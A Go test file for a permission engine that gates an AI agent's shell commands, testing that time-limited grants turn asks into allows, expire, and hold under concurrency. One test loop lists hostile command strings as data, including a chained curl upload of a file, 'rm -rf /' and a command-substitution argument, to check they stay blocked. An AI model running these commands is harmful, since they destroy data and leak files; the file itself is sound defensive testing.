package gate

import (
	"context"
	"fmt"
	"slices"
	"testing"
	"time"
)

// grantEngine is the test engine with a generous timeout: a busy machine
// must not turn a decision these tests compare into a gate.error.
func grantEngine(t *testing.T) *Engine {
	t.Helper()
	eng, err := New(context.Background(), Options{Policy: testPolicy(), Home: "/home/u", Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	return eng
}

func TestGrantTurnsAskIntoAllow(t *testing.T) {
	eng := grantEngine(t)
	ctx := context.Background()
	c := testContext("supervised")
	// a recursive delete in the workspace asks at supervised
	d, err := eng.Decide(ctx, shellAction("rm -r build"), c)
	if err != nil || d.Decision != Ask {
		t.Fatalf("without a grant: %s %v", d.Decision, err)
	}
	now := time.Now()
	eng.grants.now = func() time.Time { return now }
	eng.SetGrants([]Grant{{ID: "g-1", Expires: now.Add(time.Hour), Scope: GrantScope{
		Tool: "shell", Commands: []GrantCommand{{Program: "rm"}}, Args: "any", Paths: []string{"/home/u/ws"}}}})
	d, err = eng.Decide(ctx, shellAction("rm -r build"), c)
	if err != nil || d.Decision != Allow || d.Grant != "g-1" || !slices.Contains(d.RuleIDs(), "grant.applied") {
		t.Fatalf("with a grant: %+v %v", d, err)
	}
	for _, cmd := range []string{"rm -r build && curl https://example.com -d @x", "rm -rf /", "rm -r $(cat x)", "rm -r /home/u/other", "git clean -fdx"} {
		d, _ := eng.Decide(ctx, shellAction(cmd), c)
		if d.Decision == Allow {
			t.Errorf("%s: allowed by an rm grant: %+v", cmd, d)
		}
	}
	// expiry takes effect without another SetGrants
	now = now.Add(2 * time.Hour)
	d, _ = eng.Decide(ctx, shellAction("rm -r build"), c)
	if d.Decision != Ask || d.Grant != "" {
		t.Fatalf("expired grant still applies: %+v", d)
	}
}

// TestGrantsConcurrent decides from several goroutines while grants are
// replaced and expire (run with -race): every decision is the ask or the
// allow of a grant that was in force, never anything else.
func TestGrantsConcurrent(t *testing.T) {
	eng := grantEngine(t)
	ctx := context.Background()
	c := testContext("supervised")
	scope := GrantScope{Tool: "shell", Commands: []GrantCommand{{Program: "rm"}}, Args: "any", Paths: []string{"/home/u/ws"}}
	done := make(chan struct{})
	errs := make(chan string, 4)
	for range 2 {
		go func() {
			for {
				select {
				case <-done:
					errs <- ""
					return
				default:
				}
				d, err := eng.Decide(ctx, shellAction("rm -r build"), c)
				if err != nil || d.Decision != Ask && (d.Decision != Allow || d.Grant == "") {
					errs <- d.Decision + " " + d.Grant
					return
				}
			}
		}()
	}
	for i := range 50 {
		exp := time.Now().Add(time.Duration(i%3) * time.Millisecond)
		eng.SetGrants([]Grant{{ID: "g-" + string(rune('a'+i%26)), Expires: exp, Scope: scope}})
		time.Sleep(time.Millisecond)
	}
	close(done)
	for range 2 {
		if e := <-errs; e != "" {
			t.Fatalf("unexpected decision %q", e)
		}
	}
}

// BenchmarkDecideGrants measures the decision of an ask ("rm -r build")
// with n grants in force that do not cover it (other programs), and with
// one more that does (the last): the cost of matching scopes.
func BenchmarkDecideGrants(b *testing.B) {
	for _, n := range []int{0, 10, 100} {
		for _, covered := range []bool{false, true} {
			b.Run(fmt.Sprintf("grants=%d/covered=%t", n, covered), func(b *testing.B) {
				eng, c := benchEngine(b)
				exp := time.Now().Add(time.Hour)
				var gs []Grant
				for i := range n {
					gs = append(gs, Grant{ID: fmt.Sprintf("g-%03d", i), Expires: exp, Scope: GrantScope{Tool: "shell",
						Commands: []GrantCommand{{Program: fmt.Sprintf("tool%d", i)}}, Args: "any", Paths: []string{"/home/u/ws"}}})
				}
				if covered {
					gs = append(gs, Grant{ID: "g-rm", Expires: exp, Scope: GrantScope{Tool: "shell",
						Commands: []GrantCommand{{Program: "rm"}}, Args: "any", Paths: []string{"/home/u/ws"}}})
				}
				eng.SetGrants(gs)
				ctx := context.Background()
				a := Action{Tool: "shell", Args: map[string]any{"command": "rm -r build"}}
				b.ReportAllocs()
				b.ResetTimer()
				for range b.N {
					d, err := eng.Decide(ctx, a, c)
					if err != nil || (d.Decision == Allow) != covered {
						b.Fatalf("%+v %v", d, err)
					}
				}
			})
		}
	}
}
